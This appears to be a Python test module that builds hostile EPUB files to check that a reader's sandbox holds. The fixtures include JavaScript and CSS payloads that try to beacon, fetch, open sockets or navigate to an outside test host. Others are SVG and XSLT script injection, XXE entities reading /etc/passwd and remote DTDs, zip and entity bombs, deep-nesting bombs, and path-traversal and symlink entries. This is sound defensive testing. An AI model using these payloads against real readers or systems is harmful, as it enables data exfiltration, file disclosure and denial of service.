"""Hostile books: EPUBs that run, load, navigate, fill memory or leave their folder, made on the spot."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.indexer.rendition_files import CONTAINER, book, epub_of, package, page

if TYPE_CHECKING:
    from tests.hostile_files import Target

SHOWN = "这一句无害。"
XLINK = "http://www.w3.org/1999/xlink"
MARK = "/tmp/shuxiang-hostile"
"""Where traversal would write; nothing may ever be there."""
_ITEM = '<item id="c1" href="c1.xhtml" media-type="application/xhtml+xml"/>'
_SPINE = '<spine><itemref idref="c1"/></spine>'


def attack(target: Target) -> str:
    """JavaScript that leaves a trace everywhere it can; without double quotes and `<`, so that it fits into markup."""
    own, outside = target.box, target.outside
    tries = (
        "top.__pwned = 1", "parent.__pwned = 1", "window.__pwned = 1", "top.document.title = 'pwned'",
        "document.cookie = 'pwned=1'", "localStorage.setItem('pwned', 1)", "sessionStorage.setItem('pwned', 1)",
        "indexedDB.open('pwned')", "caches.open('pwned')", "navigator.serviceWorker.register('/items/pwned.js')",
        f"new Image().src = '{outside}/script'", f"fetch('{own}/end', {{method: 'POST'}})", f"open('{outside}/popup')",
        f"navigator.sendBeacon('{outside}/beacon')", f"new WebSocket('{outside.replace('http', 'ws')}/socket')",
        "alert('pwned')", f"top.location = '{outside}/away'",
    )  # fmt: skip
    return " ".join(f"try {{ {line} }} catch (e) {{}}" for line in tries)


def escaped(css: str) -> str:
    """The same CSS with every letter written as an escape."""
    return "".join(f"\\{ord(c):06x}" if c.isalpha() else c for c in css)


def style_attacks(target: Target, place: str) -> str:
    """Style sheets that load from outside and from the box, in every way that CSS knows to write an address."""
    out, own = f"{target.outside}/css-{place}", f"{target.box}/end?css-{place}"
    both = [(out, "o"), (own, "s")]
    lines = [
        line
        for url, n in both
        for line in (
            f'@import "{url}-import1";', f"@import url({url}-import2);", f"@import/**/'{url}-import3';",
            f'@\\69mport "{url}-import4";', f'@import "{url}-import5" layer(x) screen;',
        )
    ]  # fmt: skip
    for url, n in both:
        lines += [
            f"body {{ background-image: url('{url}-1') }}",
            f".{n}2 {{ background-image: URL( {url}-2 ) }}",
            f".{n}3 {{ background-image: \\75 rl({url}-3) }}",
            f".{n}4 {{ background-image: url('{url.replace('http', chr(92) + '68 ttp')}-4') }}",
            f".{n}5 {{ background-image: image-set('{url}-5' 1x) }}",
            f".{n}6 {{ background-image: -webkit-image-set(url('{url}-6') 1x) }}",
            f".{n}7 {{ --u: '{url}-7'; background-image: image-set(var(--u) 1x) }}",
            f".{n}8 {{ background-image: {escaped('url')}('{url.replace('://', ':/' + chr(92) + '2f ')}-8') }}",
            f".{n}9 {{ background-image: url(/**/'{url}-9') }} .{n}0 {{ cursor: url({url}-10), auto }}",
            f".{n}a {{ list-style-image: url('{url}-11'); content: url('{url}-12'); border-image: url('{url}-13') 1 }}",
            f".{n}b {{ mask-image: url('{url}-14'); filter: url('{url}-15#f'); clip-path: url('{url}-16#c') }}",
            f".{n}c {{ background-image: url('{url[:12]}\\\n{url[12:]}-17') }}",
            f"@font-face {{ font-family: f{n}; src: url('{url}-18') }} .{n}d {{ font-family: f{n} }}",
            f".{n}e {{ background-image: image-set(url('{url}-19') 1x, '{url}-20' 2x), src('{url}-21') }}",
        ]
    return "\n".join(lines)


def styled(target: Target, place: str) -> str:
    """Elements that carry those styles."""
    names = "".join(f'<p class="{side}{n}">样式。</p>' for side in "os" for n in "234567890abcde")
    return f'{names}<p style="background: url({target.outside}/inline-{place})">行内。</p>'


def everything(target: Target) -> bytes:
    """A chapter with all that a browser would run or load, and pages beside it that do the same."""
    js, out, own = attack(target), target.outside, target.box
    data = "data:text/html," + quote(f"<script>{js}</script>")
    body = f"""<h1>恶意</h1><p id="victim" onclick="{js}" onmouseover="{js}" onfocus="{js}" tabindex="0">{SHOWN}</p>
      <script>{js}</script><script src="evil.js"></script><script src="{out}/a.js"></script>
      <script type="module">{js}</script>
      <script src="{own}/items/{target.script_item}"></script>
      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="{XLINK}" onload="{js}" width="9" height="9">
        <script>{js}</script><set attributeName="href" to="javascript:{js}"/>
      <a xlink:href="javascript:{js}"><text>a</text></a>
        <image xlink:href="{out}/svg-image" width="9" height="9"/><use href="{out}/svg-use#x"/>
        <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{out}/foreign"></iframe></foreignObject>
        <animate attributeName="xlink:href" values="javascript:{js}"/>
      <handler type="text/javascript">{js}</handler></svg>
      <img src="{out}/img" alt="" onerror="{js}"/><img src="{own}/end?img" alt=""/>
      <img src="none.png" alt="" onerror="{js}"/>
      <img srcset="{out}/srcset 2x" alt=""/><picture><source srcset="{out}/picture"/><img alt=""/></picture>
      <img src="picture.svg" alt=""/><input type="image" src="{out}/input"/><body background="{out}/background"/>
      <iframe src="{out}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.__pwned=1&lt;/script&gt;"></iframe>
      <iframe src="{data}"></iframe><iframe src="javascript:{js}"></iframe><iframe src="page.html"></iframe>
      <object data="{out}/object"></object><object data="page.html"></object><embed src="{out}/embed"/>
      <a id="way" href="javascript:{js}">去</a><a id="tab" href="java&#10;script:{js}" target="_blank">去</a>
      <a id="ping" href="#victim" ping="{out}/ping" download="x.exe">去</a>
      <a id="own" href="{own}/items/{target.script_item}">去</a>
      <form action="{out}/form"><input name="q" autofocus="autofocus" onfocus="{js}"/>
      <button id="send" formaction="{own}/end">发</button></form>
      <video src="{out}/video" poster="{out}/poster" autoplay="autoplay">
      <track src="{out}/track" default="default"/></video>
      <audio src="{out}/audio" autoplay="autoplay"></audio><audio autoplay="autoplay">
      <source src="{out}/source"/></audio>
      <details open="open" ontoggle="{js}"><summary>s</summary></details><marquee onstart="{js}">m</marquee>
      <math><mtext href="javascript:{js}">m</mtext></math><portal src="{out}/portal"/><dialog open="open">d</dialog>
      <template><script>{js}</script></template><noscript><img src="{out}/noscript" alt=""/></noscript>
      {styled(target, "chapter")}"""
    head = (
        f'<base href="{out}/"/><meta http-equiv="refresh" content="0; url={out}/refresh"/>'
        f'<meta http-equiv="Set-Cookie" content="pwned=1"/><link rel="stylesheet" href="{out}/link.css"/>'
        f'<link rel="stylesheet" href="evil.css"/><link rel="prefetch" href="{out}/prefetch"/>'
        f'<link rel="dns-prefetch" href="{out}"/><link rel="preload" as="image" href="{out}/preload"/>'
        f'<link rel="modulepreload" href="{out}/modulepreload"/><link rel="manifest" href="{out}/manifest"/>'
        f'<link rel="icon" href="{out}/icon"/><style>{style_attacks(target, "style").replace("<", "")}</style>'
    )
    sheet = "?xml-stylesheet"
    chapter = page(body, head)
    styled_by = (
        f'<?xml version="1.0"?><{sheet} type="text/xsl" href="{out}/x.xsl"?><{sheet} type="text/xml" href="t.xsl"?>'
    )
    items = (
        '<item id="css" href="evil.css" media-type="text/css"/>'
        '<item id="js" href="evil.js" media-type="text/javascript"/>'
        '<item id="svg" href="picture.svg" media-type="image/svg+xml"/>'
        '<item id="html" href="page.html" media-type="text/html"/>'
        '<item id="xsl" href="t.xsl" media-type="application/xslt+xml"/>'
        '<item id="c2" href="c2.xhtml" media-type="application/xhtml+xml"/>'
        '<item id="c3" href="c3.svg" media-type="image/svg+xml"/>'
        '<item id="c4" href="page.html" media-type="text/html"/>'
    )
    spine = "<spine>" + "".join(f'<itemref idref="c{n}"/>' for n in (1, 2, 3, 4)) + "</spine>"
    return epub_of(
        {
            "OPS/package.opf": package(_ITEM + items, spine),
            "OPS/c1.xhtml": chapter,
            "OPS/c2.xhtml": styled_by.encode() + page(f"<p>{SHOWN}</p>"),
            "OPS/c3.svg": svg_attacks(target),
            "OPS/page.html": b"<!doctype html><title>p</title>" + chapter,
            "OPS/evil.css": style_attacks(target, "sheet").encode(),
            "OPS/evil.js": js.encode(),
            "OPS/picture.svg": svg_attacks(target),
            "OPS/t.xsl": transformer(js),
        }
    )


def svg_attacks(target: Target) -> bytes:
    """A drawing with scripts and remote parts."""
    js, out = attack(target), target.outside
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="{XLINK}" viewBox="0 0 9 9" onload="{js}">'
        f'<script>{js}</script><script xlink:href="{out}/svg.js"/><style>@import "{out}/svg.css";</style>'
        f'<image href="{out}/in-svg" width="9" height="9"/><use href="{out}/use-in-svg#x"/>'
        f'<rect width="9" height="9"/>'
        f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script>'
        f'<iframe src="{out}/svg-frame"/></body></foreignObject></svg>'
    ).encode()


def transformer(js: str) -> bytes:
    """A style sheet of XSLT that makes a script out of nothing."""
    return (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f'<html><body><xsl:element name="script">{js}</xsl:element></body></html></xsl:template></xsl:stylesheet>'
    ).encode()


def zip_bomb(size: int = 192 << 20) -> bytes:
    """A chapter of zeros: a thousandth of its size in the book."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("mimetype", b"application/epub+zip", zipfile.ZIP_STORED)
        file.writestr("META-INF/container.xml", CONTAINER)
        file.writestr("OPS/package.opf", package(_ITEM, _SPINE))
        with file.open("OPS/c1.xhtml", "w") as chapter:
            for _ in range(size >> 20):
                chapter.write(b" " * (1 << 20))
    return out.getvalue()


def lying_zip() -> bytes:
    """A chapter that says it unpacks to 1,000 bytes and unpacks to 8 MiB."""
    body = bytearray(book(f"<p>{SHOWN}</p>{'x' * (8 << 20)}"))
    central = body.rindex(b"PK\x01\x02", 0, body.rindex(b"PK\x05\x06"))
    start = body.rindex(b"PK\x03\x04", 0, central)
    body[central + 24 : central + 28] = body[start + 22 : start + 26] = struct.pack("<I", 1000)
    return bytes(body)


def overlapping_zip(entries: int = 3000) -> bytes:
    """Thousands of chapters that share one packed stream of 16 MiB."""
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(b" " * (16 << 20)) + packer.flush()
    crc = zlib.crc32(b" " * (16 << 20))
    numbers = range(entries)
    items = "".join(f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>' for n in numbers)
    refs = "".join(f'<itemref idref="c{n}"/>' for n in numbers)
    head = bytearray(epub_of({"OPS/package.opf": package(items, f"<spine>{refs}</spine>")}))
    end = head.rindex(b"PK\x05\x06")
    count, length, start = struct.unpack("<HII", head[end + 10 : end + 20])
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), 16 << 20, 1, 0) + b"x" + packed
    directory = bytearray(head[start : start + length])
    for n in numbers:
        name = f"OPS/c{n}.xhtml".encode()
        fields = (20, 20, 0, 8, 0, 0, crc, len(packed), 16 << 20, len(name), 0, 0, 0, 0, 0, start)
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *fields) + name
    place = start + len(local)
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + entries, count + entries, len(directory), place, 0)
    return bytes(head[:start]) + local + bytes(directory) + tail


def entity_bomb() -> bytes:
    """Entities of entities in the package and in a chapter: 10^10 letters when written out."""
    doctype = '<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    title = package(_ITEM, _SPINE, "<dc:title>&a9;</dc:title>").replace(
        b"?><package", f"?>{doctype}]><package".encode()
    )
    return epub_of({"OPS/package.opf": title, "OPS/c1.xhtml": f"{doctype}]>".encode() + page(f"<p>{SHOWN}&a9;</p>")})


def external_entities(target: Target) -> bytes:
    """Entities from files of the box and from outside, in container, package and chapter."""
    outside = (
        f'<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY r SYSTEM "{target.outside}/entity">'
        f'<!ENTITY % d SYSTEM "{target.outside}/dtd">%d;'
    )
    doctype = f'<!DOCTYPE x SYSTEM "{target.outside}/x.dtd" [{outside}]>'.encode()
    opf = package(_ITEM, _SPINE, "<dc:title>&e;&r;</dc:title>").replace(b"?><package", b"?>" + doctype + b"<package")
    return epub_of(
        {
            "META-INF/container.xml": doctype + CONTAINER,
            "OPS/package.opf": opf,
            "OPS/c1.xhtml": doctype + page(f"<p>{SHOWN}&e;&r;</p>"),
        }
    )


def traversal() -> bytes:
    """Names that lead out of the book: up, absolute, of Windows, with a colon, a link."""
    out = io.BytesIO(
        book(f'<p>{SHOWN}</p><img src="../../../../../../etc/passwd" alt=""/><img src="file:///etc/passwd" alt=""/>')
    )
    with zipfile.ZipFile(out, "a") as file:
        for name in (
            f"../../../../../..{MARK}",
            MARK,
            "..\\..\\..\\shuxiang-hostile",
            "C:\\shuxiang-hostile",
            "OPS/../../x",
        ):
            file.writestr(zipfile.ZipInfo(name), "left the book")
        link = zipfile.ZipInfo("OPS/link.xhtml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def formatting_bomb() -> bytes:
    """100 kB whose parsing as HTML makes hundreds of megabytes: every paragraph repeats the open formatting."""
    count, paragraphs = 110, 60_000
    opening = "".join(f'<p><b title="{n}">' for n in range(count))
    body = opening + "<p>x</p>" * paragraphs + "</b></p>" * count
    files = {"OPS/package.opf": package(_ITEM, _SPINE), "OPS/c1.xhtml": page(body)}
    return epub_of(files, zipfile.ZIP_STORED)


def deep_book() -> bytes:
    """A chapter whose elements nest 100,000 deep, and a table of contents that does."""
    deep = "<div>" * 100_000 + SHOWN + "</div>" * 100_000
    nav = (
        "<nav xmlns:epub='http://www.idpf.org/2007/ops' epub:type='toc'>" + "<ol><li><a href='c1.xhtml'>x</a>" * 20_000
    )
    nav += "</li></ol>" * 20_000 + "</nav>"
    item = '<item id="nav" href="nav.xhtml" properties="nav" media-type="application/xhtml+xml"/>'
    files = {"OPS/package.opf": package(_ITEM + item, _SPINE), "OPS/c1.xhtml": page(deep), "OPS/nav.xhtml": page(nav)}
    return epub_of(files, zipfile.ZIP_STORED)


def many_elements() -> bytes:
    """A chapter of a million elements."""
    return epub_of({"OPS/package.opf": package(_ITEM, _SPINE), "OPS/c1.xhtml": page("<i/>" * 1_000_000)})


def long_spine() -> bytes:
    """A hundred thousand chapters of which none is there."""
    refs = '<itemref idref="c1"/>' * 100_000
    return epub_of({"OPS/package.opf": package(_ITEM, f"<spine>{refs}</spine>"), "OPS/c1.xhtml": page(SHOWN)})
